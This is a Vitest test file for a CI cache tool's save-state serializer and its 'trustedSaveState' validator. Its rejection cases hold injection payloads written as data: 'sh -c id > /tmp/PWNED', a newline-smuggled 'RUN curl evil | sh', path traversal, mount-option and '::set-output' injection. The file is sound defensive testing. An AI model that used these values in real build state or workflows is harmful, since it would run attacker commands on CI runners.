import { describe, expect, it } from 'vitest';
import {
  parseSaveState,
  serializeSaveState,
  trustedSaveState,
  type CacheSaveState,
} from '../../../src/cache/saveState.js';

describe('cache save state', () => {
  it('round-trips through the main→post state', () => {
    const state: CacheSaveState = {
      mode: 'actions',
      primaryKey: 'k-1',
      restoredKey: 'k-0',
      cacheDir: '/t/cache',
      nextDir: '/t/next',
      mounts: [{ id: 'microb-pip', target: '/root/.cache/pip' }],
      helperImage: 'python:3.11',
      buildxCommand: ['docker', 'buildx'],
      timeoutMs: 1000,
    };
    expect(parseSaveState(serializeSaveState(state))).toEqual(state);
    expect(parseSaveState(serializeSaveState({ mode: 'gha' }))).toEqual({ mode: 'gha' });
  });

  it.each(['', '   ', 'not json', '[]', 'null', '{"mode":"actions"}', '{"mode":"other"}'])(
    'reads %j as "nothing to save" rather than failing the post step',
    (text) => {
      expect(parseSaveState(text)).toBeNull();
    },
  );
});

// issue 9, item 1: post deletes cacheDir, renames nextDir and runs builds: only main's own state
describe('trustedSaveState', () => {
  const workDir = '/runner/temp/microb-cache';
  const scope = 'microb-buildkit-1-api-linux-amd64-0123456789';
  const good = {
    mode: 'actions',
    primaryKey: 'k-1',
    cacheDir: `${workDir}/${scope}/cache`,
    nextDir: `${workDir}/${scope}/next`,
    mounts: [{ id: 'microb-pip', target: '/root/.cache/pip' }],
    helperImage: 'python:3.11',
    buildxCommand: ['sh', '-c', 'id > /tmp/PWNED'],
    timeoutMs: 1000,
  };
  const trust = { workDir, buildxCommand: ['docker', 'buildx', '--builder', 'microb-1-abc123'] };

  it('keeps main’s directories and replaces the command with the trusted one', () => {
    expect(trustedSaveState(JSON.stringify(good), trust)).toEqual({
      ...good,
      buildxCommand: ['docker', 'buildx', '--builder', 'microb-1-abc123'],
    });
  });

  it.each([
    ['cacheDir', '/home/runner/work/repo'],
    ['cacheDir', `${workDir}/../x/cache`],
    ['nextDir', `${workDir}/other-scope/next`],
    ['nextDir', '/home/runner/work/repo/next'],
    ['mounts', [{ id: 'x\nRUN curl evil | sh', target: '/t' }]],
    ['mounts', [{ id: 'x', target: '/t,source=/' }]],
    ['helperImage', 'busybox\nRUN id'],
    ['helperImage', '--help'],
    ['primaryKey', 'k\n::set-output name=x::y'],
    ['timeoutMs', 1e12],
    ['timeoutMs', -1],
  ])('refuses a state whose %s is %j', (key, value) => {
    expect(trustedSaveState(JSON.stringify({ ...good, [key]: value }), trust)).toBeNull();
  });
});
